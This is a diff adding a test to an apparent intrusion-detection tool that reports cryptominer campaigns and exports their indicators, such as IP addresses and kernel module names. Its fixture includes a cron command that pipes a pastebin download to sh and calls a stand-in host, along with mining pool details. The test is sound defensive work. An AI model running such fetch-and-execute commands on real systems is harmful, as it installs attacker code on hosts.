@@ -5,6 +5,7 @@ from __future__ import annotations
 from pathlib import Path
 from typing import Any
 
+from extension.fleet import export
 from extension.fleet.names import Names
 from extension.fleet.order import in_order
 from tests.fleet.looking import line, miner, reported, told
@@ -125,3 +126,19 @@ def test_what_stands_open_on_most_of_its_hosts_is_how_it_came_in(tmp_path: Path,
         lines.append(miner(f"h{n}", T + n, image="registry.example/sync:1"))
     (campaign,) = reported(tmp_path, names, lines)["campaigns"]
     assert "docker" in campaign["entry"][0]["en"]
+
+
+def test_what_is_given_to_others_can_be_read_by_them(tmp_path: Path, names: Names) -> None:
+    job = {
+        "path": "/etc/cron.d/c",
+        "evidence": "x",
+        "command": "curl -s https://pastebin.com/raw/Ab12Cd34 | sh; curl http://192.0.2.7/x",
+    }
+    pool = {"pool": "198.51.100.9:3333, nanopool", "wallet": "4w"}
+    lines = [miner(host, T, **pool) for host in ("a", "b")]
+    lines += [line("cron_download_and_run", 1, T, "added", host, **job) for host in ("a", "b")]
+    lines += [line("hidden_kernel_module", 1, T, "added", host, module="nfx", evidence="x") for host in ("a", "b")]
+    report = reported(tmp_path, names, lines)
+    # Neither a page of a site nor a pool's own name for itself is an address.
+    assert export.render(report, (), "minehunt").splitlines()[1:] == ["192.0.2.7", "198.51.100.9:3333"]
+    assert ("module", "nfx") in {(each["kind"], each["value"]) for each in report["campaigns"][0]["indicators"]}
